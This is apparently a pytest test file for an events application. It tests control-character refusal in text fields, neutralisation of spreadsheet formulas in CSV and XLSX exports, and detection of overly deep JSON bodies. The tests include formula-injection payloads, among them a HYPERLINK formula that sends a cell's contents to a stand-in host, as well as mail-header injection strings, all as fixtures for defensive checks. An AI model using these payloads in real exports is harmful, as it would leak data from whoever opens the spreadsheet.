"""The one text rule (domain.text), the spreadsheet neutralising (domain.spreadsheet) and the JSON nesting scan
(domain.nesting), without a database."""

import csv
import io
import json

import openpyxl
import pytest

from events_app.domain.errors import InvalidInput
from events_app.domain.nesting import too_deep
from events_app.domain.spreadsheet import csv_bytes, safe_cell, xlsx_bytes
from events_app.domain.text import (
    LINE_MESSAGE,
    TextRefused,
    clean_fields,
    clean_items,
    clean_line,
    clean_text,
    repair_line,
    repair_text,
)

CONTROL = ["\r", "\n", "\r\n", "\x00", "\t", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9f", "\u2028", "\u2029"]


@pytest.mark.parametrize("bad", CONTROL)
def test_clean_line_with_a_control_character_is_refused(bad):
    with pytest.raises(TextRefused):
        clean_line(f"Ana{bad}Bcc: x@example.org")


def test_clean_line_trims_and_normalises_to_nfc():
    assert clean_line("  Jose\u0301 Núñez \u00a0") == "José Núñez"
    assert clean_line("  José  ") == "José"


def test_clean_line_keeps_scripts_and_inner_spaces():
    assert clean_line("李小龍 محمد  Ørsted-Ångström") == "李小龍 محمد  Ørsted-Ångström"


def test_clean_text_normalises_line_ends_and_keeps_tabs():
    assert clean_text("one\r\ntwo\rthree\u2028four\u2029five\n\tsix  \n") == "one\ntwo\nthree\nfour\nfive\n\tsix"


@pytest.mark.parametrize("bad", ["\x00", "\x0b", "\x1b", "\x7f", "\x85"])
def test_clean_text_with_other_control_characters_is_refused(bad):
    with pytest.raises(TextRefused):
        clean_text(f"first line\nsecond{bad}line")


def test_repair_line_turns_each_run_into_one_space():
    assert repair_line(" Ana\r\n\x00Bcc: x\u2028y\t") == "Ana Bcc: x y"


def test_repair_text_keeps_line_feeds():
    assert repair_text("a\r\nb\x00\x1bc\rd\x85") == "a\nb c\nd"


def test_repaired_values_pass_the_rule():
    for bad in CONTROL:
        assert clean_line(repair_line(f"x{bad}y")) == repair_line(f"x{bad}y")
        assert clean_text(repair_text(f"x{bad}y")) == repair_text(f"x{bad}y")


def test_clean_fields_names_every_field_that_breaks_the_rule():
    with pytest.raises(InvalidInput) as caught:
        clean_fields(
            {"title": "A\nB", "city": "ok", "venue_name": "x\x00", "description": "a\x1b"},
            ("title", "city", "venue_name"),
            ("description",),
        )
    assert caught.value.status == 422
    assert [e.field for e in caught.value.errors] == ["title", "venue_name", "description"]
    assert caught.value.errors[0].message == LINE_MESSAGE


def test_clean_fields_returns_cleaned_copy_and_ignores_absent_and_non_text():
    fields = {"title": "  Forum  ", "capacity": 3, "description": "a\r\nb"}
    assert clean_fields(fields, ("title", "city", "capacity"), ("description",)) == {
        "title": "Forum",
        "capacity": 3,
        "description": "a\nb",
    }
    assert fields["title"] == "  Forum  "


def test_clean_fields_prefix_names_nested_fields():
    with pytest.raises(InvalidInput) as caught:
        clean_fields({"name": "A\rB"}, ("name",), prefix="people[2].")
    assert caught.value.errors[0].field == "people[2].name"


def test_clean_items_names_the_position():
    with pytest.raises(InvalidInput) as caught:
        clean_items(["ok", "no\nway"], "options")
    assert caught.value.errors[0].field == "options[1]"


# --------------------------------------------------------------------------- spreadsheets

DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_safe_cell_prefixes_formula_starts(value):
    assert safe_cell(value) == "'" + value


def test_safe_cell_leaves_other_values():
    assert [safe_cell(v) for v in ("Ana", "a=b", 5, -5, None, True)] == ["Ana", "a=b", 5, -5, "", True]


def test_csv_bytes_neutralise_every_dangerous_cell():
    data = csv_bytes(["name", "n"], [[v, 1] for v in DANGEROUS], bom=True)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["name", "n"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in DANGEROUS]


def test_xlsx_bytes_write_text_never_formulas():
    data = xlsx_bytes(["name", "n", "link"], [[v, 7, "https://example.org"] for v in DANGEROUS], sheet="S")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [sheet.cell(row=r, column=1) for r in range(2, len(DANGEROUS) + 2)]
    assert [c.data_type for c in names] == ["s"] * len(DANGEROUS)
    # xlsx stores CR as _x000D_, which openpyxl reads back as it is
    assert [c.value.replace("_x000D_", "\r") for c in names] == ["'" + v for v in DANGEROUS]
    assert sheet.cell(row=2, column=2).value == 7
    assert sheet.cell(row=2, column=3).hyperlink is None


# --------------------------------------------------------------------------- JSON nesting


def test_too_deep_names_the_top_level_field():
    body = b'{"name": "x", "answers": {"q": ' + b"[" * 10000 + b"]" * 10000 + b"}}"
    assert too_deep(body) == "answers"


def test_too_deep_of_a_deep_document_is_body():
    assert too_deep(b"[" * 10000 + b"]" * 10000) == "body"


def test_too_deep_ignores_brackets_inside_strings_and_wide_documents():
    assert too_deep(json.dumps({"a": "[" * 500, "b": [{"c": [1]} for _ in range(1000)]}).encode()) is None
    assert too_deep(json.dumps({"a": '\\"[[[[' * 100}).encode()) is None


def test_paragraphs_survive_any_line_endings():
    from events_app.domain.text import paragraphs

    assert paragraphs("One.\r\n\r\nTwo,\r\nstill two.\n\n \nThree.") == ["One.", "Two,\nstill two.", "Three."]
    assert paragraphs("") == []


def test_fold_drops_accents_and_case_for_search():
    from events_app.domain.text import fold

    assert fold("Malmö") == fold("MALMO") == "malmo"
    assert fold("São Paulo") == "sao paulo"
